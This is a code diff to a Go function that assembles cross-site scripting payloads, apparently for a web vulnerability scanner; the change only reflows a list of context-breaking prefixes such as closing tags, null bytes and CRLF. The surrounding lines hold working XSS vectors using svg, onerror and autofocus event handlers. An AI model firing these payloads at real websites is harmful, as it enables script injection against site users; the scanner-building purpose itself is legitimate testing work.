@@ -31,8 +31,10 @@ func payloads() []string {
 		"<svg><animate onbegin=%s attributeName=x dur=1s>", "<svg><script>%s</script></svg>", "<template><script>%s</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
 		"<xmp><script>%s</script>", "<select autofocus onfocus=%s>", "<textarea autofocus onfocus=%s>",
 	}
-	breaks := []string{"%s", "\">%s", "'>%s", "</title>%s", "</textarea>%s", "</script>%s", "--!>%s", "]]>%s", "</style>%s", "</pre></table>%s", "\x00%s", "\"'><x y=\"%s", "&lt;/p&gt;%s", "{{%s}}",
-		"</iframe>%s", "\r\n\r\n%s", "data: %s", "<!--%s", "</option></select>%s", "</noscript>%s"}
+	breaks := []string{
+		"%s", "\">%s", "'>%s", "</title>%s", "</textarea>%s", "</script>%s", "--!>%s", "]]>%s", "</style>%s", "</pre></table>%s", "\x00%s", "\"'><x y=\"%s", "&lt;/p&gt;%s", "{{%s}}",
+		"</iframe>%s", "\r\n\r\n%s", "data: %s", "<!--%s", "</option></select>%s", "</noscript>%s",
+	}
 	calls := []string{call, "window['" + ran + "']('y')"}
 	var all []string
 	for _, b := range breaks {
